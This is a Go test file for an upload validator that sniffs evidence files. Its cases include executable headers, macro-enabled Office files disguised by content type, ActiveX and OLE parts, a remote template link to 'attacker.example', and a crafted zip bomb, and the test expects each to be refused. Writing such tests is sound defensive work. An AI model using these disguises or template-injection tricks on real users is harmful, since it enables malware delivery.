package document_test

import (
	"archive/zip"
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"kinerja/internal/document"
	"kinerja/internal/kinerja"
)

func TestSniffEvidence(t *testing.T) {
	t.Parallel()
	var xlsx bytes.Buffer
	f := excelize.NewFile()
	f.Write(&xlsx)
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00")
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"pdf", []byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"), document.TypePDF},
		{"png", png, document.TypePNG},
		{"jpeg", []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"), document.TypeJPEG},
		{"xlsx", xlsx.Bytes(), document.TypeXLSX},
		{"executable renamed .pdf", []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00"), ""},
		{"windows executable", []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), ""},
		{"html", []byte("<html><script>alert(1)</script></html>"), ""},
		{"plain zip", zipWith(t, "a.txt"), ""},
	}
	for _, tt := range tests {
		got, err := document.SniffEvidence(bytes.NewReader(tt.data), int64(len(tt.data)))
		if tt.want == "" {
			if kinerja.ErrorFields(err)["file"] == "" {
				t.Errorf("%s: SniffEvidence = %q, %v; want an error on file", tt.name, got, err)
			}
			continue
		}
		if err != nil || got != tt.want {
			t.Errorf("%s: SniffEvidence = %q, %v; want %q", tt.name, got, err, tt.want)
		}
	}
}

func zipWith(t *testing.T, name string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	w, _ := zw.Create(name)
	w.Write([]byte("isi"))
	zw.Close()
	return b.Bytes()
}

// TestSniffEvidence_Office replays evidence that is a workbook or document only by its parts:
// a macro workbook (.xlsm) or document (.docm) renamed, one that carries ActiveX controls or an
// embedded object, one that fetches a template from another server when opened, and a zip
// bomb. Each is refused with a message saying why; a workbook with a hyperlink is not.
func TestSniffEvidence_Office(t *testing.T) {
	t.Parallel()
	const (
		types    = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`
		xml      = `<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>`
		plainXL  = `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>`
		macroXL  = `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>`
		plainDoc = `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`
		rels     = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	)
	xlsx := func(contentTypes string, more map[string]string) []byte {
		files := map[string]string{"[Content_Types].xml": types + xml + contentTypes + `</Types>`,
			"xl/workbook.xml": `<workbook/>`, "xl/worksheets/sheet1.xml": `<worksheet/>`}
		for k, v := range more {
			files[k] = v
		}
		return zipOf(t, files)
	}
	docx := func(contentTypes string, more map[string]string) []byte {
		files := map[string]string{"[Content_Types].xml": types + xml + contentTypes + `</Types>`, "word/document.xml": `<w:document/>`}
		for k, v := range more {
			files[k] = v
		}
		return zipOf(t, files)
	}
	bomb := craftZip(t, part{name: "[Content_Types].xml", text: types + xml + plainXL + `</Types>`},
		part{name: "xl/worksheets/sheet1.xml", text: strings.Repeat("A", 1<<20), repeat: 200})
	tests := []struct {
		name string
		data []byte
		want string // the type, or the message of the refusal
	}{
		{"workbook with a hyperlink", xlsx(plainXL, map[string]string{"xl/worksheets/_rels/sheet1.xml.rels": rels +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.go.id/" TargetMode="External"/></Relationships>`,
			"xl/printerSettings/printerSettings1.bin": "\x00\x01"}), document.TypeXLSX},
		{"document", docx(plainDoc, nil), document.TypeDOCX},
		{"macro workbook renamed .xlsx", xlsx(macroXL+`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`,
			map[string]string{"xl/vbaProject.bin": "\xd0\xcf\x11\xe0"}), kinerja.MsgEvidenceActive},
		{"macro workbook without its project part", xlsx(macroXL, nil), kinerja.MsgEvidenceActive},
		{"VBA project under another content type", xlsx(plainXL, map[string]string{"xl/VbaProject.bin": "\xd0\xcf\x11\xe0"}), kinerja.MsgEvidenceActive},
		{"macro document renamed .docx", docx(`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`, nil),
			kinerja.MsgEvidenceActive},
		{"content type hidden behind a character reference", xlsx(`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/>`, nil),
			kinerja.MsgEvidenceActive},
		{"ActiveX control", docx(plainDoc, map[string]string{"word/activeX/activeX1.xml": "<ax:ocx/>"}), kinerja.MsgEvidenceActive},
		{"Excel 4 macro sheet", xlsx(plainXL+`<Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>`,
			map[string]string{"xl/macrosheets/sheet2.xml": "<xm:macrosheet/>"}), kinerja.MsgEvidenceActive},
		{"embedded OLE object", docx(plainDoc, map[string]string{"word/embeddings/oleObject1.bin": "\xd0\xcf\x11\xe0"}), kinerja.MsgEvidenceActive},
		{"remote template", docx(plainDoc, map[string]string{"word/_rels/settings.xml.rels": rels +
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>`}),
			kinerja.MsgEvidenceActive},
		{"zip bomb", bomb, kinerja.MsgEvidenceArchive},
		{"content types that are no XML", xlsx(`<Override`, nil), kinerja.MsgEvidenceType},
	}
	for _, tt := range tests {
		got, err := document.SniffEvidence(bytes.NewReader(tt.data), int64(len(tt.data)))
		if err == nil {
			if got != tt.want {
				t.Errorf("%s: SniffEvidence = %q; want %q", tt.name, got, tt.want)
			}
			continue
		}
		if msg := kinerja.ErrorFields(err)["file"]; msg != tt.want || kinerja.ErrorMessage(err) != tt.want {
			t.Errorf("%s: SniffEvidence = %q, %v; want %q", tt.name, got, err, tt.want)
		}
	}
}
